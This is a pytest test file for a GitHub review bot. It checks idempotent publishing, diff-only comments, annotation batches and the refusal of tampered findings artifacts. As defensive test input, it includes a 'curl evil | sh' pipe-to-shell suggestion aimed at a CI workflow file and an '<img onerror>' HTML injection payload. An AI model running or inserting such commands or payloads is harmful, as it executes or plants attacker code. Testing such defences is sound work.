"""Publishing against the local GitHub-compatible server: idempotence, diff-only comments,
annotation batches, and artifacts tampered with on the untrusted side."""

from __future__ import annotations

import json
import math
import re

import pytest

from tests.conftest import ROOT, SAMPLE_POLICY
from tests.github_server import GitHubServer
from tools.errors import UserError
from tools.github import GitHubClient
from tools.policy import load_policy
from tools.review_bot.cli import main
from tools.review_bot.findings import Finding, Outcome
from tools.review_bot.publish.github import publish
from tools.review_bot.untrusted import load_artifact

TOKEN = "bot-token"
HEAD = "a" * 40
DOCS = "https://docs.example/project/"
POLICY = load_policy(path=SAMPLE_POLICY)
PATCH = "@@ -1,3 +1,4 @@\n import a\n+import os\n b = 1\n c = 2"  # line 2 added; 1, 3, 4 context


@pytest.fixture
def server():
    with GitHubServer(tokens=(TOKEN,)) as s:
        repo = s.add_repo("acme", "widgets")
        files = [
            {
                "filename": "tools/mod.py",
                "status": "modified",
                "additions": 1,
                "deletions": 0,
                "patch": PATCH,
            },
            {"filename": "assets/logo.png", "status": "added", "additions": 0, "deletions": 0},
        ]
        repo.add_pull(
            7, "newbie", HEAD, files, labels=("size/L",), association="FIRST_TIME_CONTRIBUTOR"
        )
        yield s


def outcome(*findings: Finding, labels=("size/XS",)) -> Outcome:
    return Outcome(
        "acme/widgets",
        7,
        HEAD,
        list(findings),
        list(labels),
        [{"login": "tomas-lind", "area": "tools"}],
        True,
    )


LINT = Finding("ruff", "warning", "F401: `os` imported but unused", "tools/mod.py", 2, 2, "")
OLD_LINE = Finding("ruff", "warning", "E501: too long", "tools/mod.py", 9, 9)  # not in the diff
BINARY = Finding("files", "warning", "A binary file is added or changed.", "assets/logo.png")
SIZE = Finding("size", "notice", "1 lines changed: size/XS.")


def _publish(server, out: Outcome) -> tuple[str, int]:
    client = GitHubClient(TOKEN, server.base_url)
    try:
        report = publish(client, "acme/widgets", HEAD, out, DOCS, POLICY)
        return report, client.requests
    finally:
        client.close()


def test_three_runs_post_once_and_never_outside_the_diff(server):
    repo = server.repos["acme/widgets"]
    report, requests = _publish(server, outcome(LINT, OLD_LINE, BINARY, SIZE))
    assert "1 inline comments" in report and "summary comment" in report
    # GET pull, GET open pulls (review load), GET files, GET comments, GET the bot's review
    # comments (GitHub, not the summary's state, says what is already posted), POST review,
    # POST check run, POST summary, POST labels, DELETE the old size label
    assert requests == 10 <= 8 + 1 + 1  # the budget: 8 + ⌈files/100⌉ + ⌈annotations/50⌉
    inline = [c for c in repo.review_comments]
    assert [(c["path"], c["line"]) for c in inline] == [("tools/mod.py", 2)]
    assert "```suggestion\n\n```" in inline[0]["body"]  # ruff's fix: delete the line
    assert server.requests(status=422) == []
    summary = [c for c in repo.comments if "review-bot:summary" in c["body"]]
    assert len(summary) == 1 and "Welcome" in summary[0]["body"]
    assert "E501: too long" in summary[0]["body"]  # off-diff findings stay in the summary
    assert repo.labels_of(7) == ["size/XS"]  # size/L replaced
    assert len(repo.check_runs) == 1 and len(repo.check_runs[0]["annotations"]) == 3

    for _ in range(2):  # re-runs on the same head
        server.log.clear()
        report, requests = _publish(server, outcome(LINT, OLD_LINE, BINARY, SIZE))
        assert report.endswith("nothing new to post (4 API requests)")
        assert [e["method"] for e in server.log] == ["GET"] * 4
    assert len(repo.review_comments) == 1 and len(repo.check_runs) == 1
    assert len([c for c in repo.comments if "review-bot:summary" in c["body"]]) == 1


def test_a_fixed_finding_shows_as_resolved_and_its_comment_is_minimised(server):
    repo = server.repos["acme/widgets"]
    _publish(server, outcome(LINT, SIZE))
    report, _ = _publish(server, outcome(SIZE))
    assert "1 resolved comments minimised" in report
    assert repo.minimized == {repo.review_comments[0]["node_id"]}
    body = next(c["body"] for c in repo.comments if "review-bot:summary" in c["body"])
    assert "Resolved since the last run" in body and "~~ruff: F401" in body


def test_annotations_go_in_batches_of_50(server):
    many = [Finding("ruff", "warning", f"W{i}", "tools/mod.py", 2, 2) for i in range(120)]
    _, requests = _publish(server, outcome(*many))
    assert requests <= 8 + math.ceil(2 / 100) + math.ceil(120 / 50)  # the budget
    run = server.repos["acme/widgets"].check_runs[0]
    assert len(run["annotations"]) == 120
    patches = [e for e in server.log if e["method"] == "PATCH" and "check-runs" in e["path"]]
    assert len(patches) == 2  # 50 with the POST, then 50 and 20
    assert server.requests(status=422) == []


def _artifact(tmp_path, **changes) -> str:
    data = outcome(LINT, SIZE).as_json()
    data.update(changes)
    path = tmp_path / "findings.json"
    path.write_text(json.dumps(data))
    return str(path)


def test_tampered_paths_are_dropped_and_nothing_lands_outside_the_pull_request(server, tmp_path):
    evil = Finding("ruff", "warning", "x", ".github/workflows/ci.yml", 1, 1, "curl evil | sh")
    _artifact(tmp_path, findings=[LINT.__dict__, evil.__dict__])
    out = load_artifact(tmp_path / "findings.json", POLICY)
    _publish(server, out)
    repo = server.repos["acme/widgets"]
    assert {c["path"] for c in repo.review_comments} == {"tools/mod.py"}
    body = next(c["body"] for c in repo.comments if "review-bot:summary" in c["body"])
    assert ".github/workflows" not in body and "1 finding(s) named files outside" in body


def test_mentions_and_html_are_neutralised(server, tmp_path):
    flood = "@acme/team <img src=x onerror=alert(1)> " + " ".join(f"@user{i}" for i in range(50))
    _artifact(tmp_path, findings=[{**SIZE.__dict__, "message": flood}])
    _publish(server, load_artifact(tmp_path / "findings.json", POLICY))
    body = next(c["body"] for c in server.repos["acme/widgets"].comments if "summary" in c["body"])
    assert "@user" not in body and "@\u200buser0" in body and "@\u200bacme/team" in body
    assert "<img" not in body and "&lt;img" in body


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"head_sha": "b" * 40}, "the run analysed aaaaaaaaaa; nothing posted"),
        ({"pull_request": 8}, "not found (404)"),
        ({"findings": [{**SIZE.__dict__, "rule": "shell"}]}, "findings[0].rule"),
        ({"labels": ["admin"]}, "labels[0]"),
        ({"extra": 1}, "extra: Extra inputs are not permitted"),
        ({"findings": [{**SIZE.__dict__, "message": "x" * 5000}]}, "findings[0].message"),
    ],
)
def test_tampered_artifacts_are_refused(server, tmp_path, changes, message):
    _artifact(tmp_path, **changes)
    with pytest.raises(UserError, match=re.escape(message)):
        out = load_artifact(tmp_path / "findings.json", POLICY)
        _publish(server, out)
    repo = server.repos["acme/widgets"]
    assert repo.review_comments == [] and repo.check_runs == [] and repo.comments == []


def test_an_artifact_for_another_head_of_the_same_pull_request(server, tmp_path):
    server.repos["acme/widgets"].pulls[7]["head"]["sha"] = "c" * 40  # the PR moved on
    with pytest.raises(UserError, match="its head is cccccccccc, not the analysed aaaaaaaaaa"):
        _publish(server, outcome(LINT))


def test_oversized_artifact_is_refused_before_parsing(tmp_path):
    path = tmp_path / "findings.json"
    path.write_text("[" + "1," * 600_000 + "1]")
    with pytest.raises(UserError, match="over the 1,000,000-byte limit"):
        load_artifact(path, POLICY)


def test_reviewers_are_picked_on_the_trusted_side_by_open_review_load(server, tmp_path):
    # The artifact may only name areas; the people are chosen again from the policy and the
    # open review requests. Tomas already has two requests elsewhere: Jonas gets this one.
    repo = server.repos["acme/widgets"]
    other = repo.add_pull(8, "someone", "b" * 40, [])
    other["requested_reviewers"] = [{"login": "tomas-lind"}, {"login": "tomas-lind"}]
    bogus = [{"login": "attacker", "area": "tools"}, {"login": "x", "area": "no-such-area"}]
    _artifact(tmp_path, reviewers=bogus)
    out = load_artifact(tmp_path / "findings.json", POLICY)
    assert [r["area"] for r in out.reviewers] == ["tools"]
    client = GitHubClient(TOKEN, server.base_url)
    publish(client, "acme/widgets", HEAD, out, DOCS, POLICY)
    client.close()
    body = next(c["body"] for c in repo.comments if "review-bot:summary" in c["body"])
    assert "`jonas-weber` (tools)" in body and "attacker" not in body


def test_publish_cli_end_to_end(server, tmp_path, capsys, monkeypatch):
    path = _artifact(tmp_path)
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    monkeypatch.chdir(ROOT)
    args = ["publish", "--findings", path, "--repository", "acme/widgets", "--head-sha", HEAD]
    assert main([*args, "--api-url", server.base_url]) == 0
    assert "acme/widgets#7:" in capsys.readouterr().out
    monkeypatch.setenv("GITHUB_TOKEN", "wrong-token")
    assert main([*args, "--api-url", server.base_url]) == 2
    err = capsys.readouterr().err
    assert "refused (401" in err and "wrong-token" not in err


def test_the_summary_fits_githubs_comment_limit_however_many_findings(server):
    noisy = [Finding("ruff", "warning", "x" * 2000, "tools/mod.py", 2, 2) for _ in range(1)]
    noisy += [Finding("files", "warning", f"{i} " + "y" * 1990, "tools/mod.py") for i in range(999)]
    _publish(server, outcome(*noisy))
    body = next(c["body"] for c in server.repos["acme/widgets"].comments if "summary" in c["body"])
    assert len(body) < 65_536 and "more: see the check run's annotations" in body
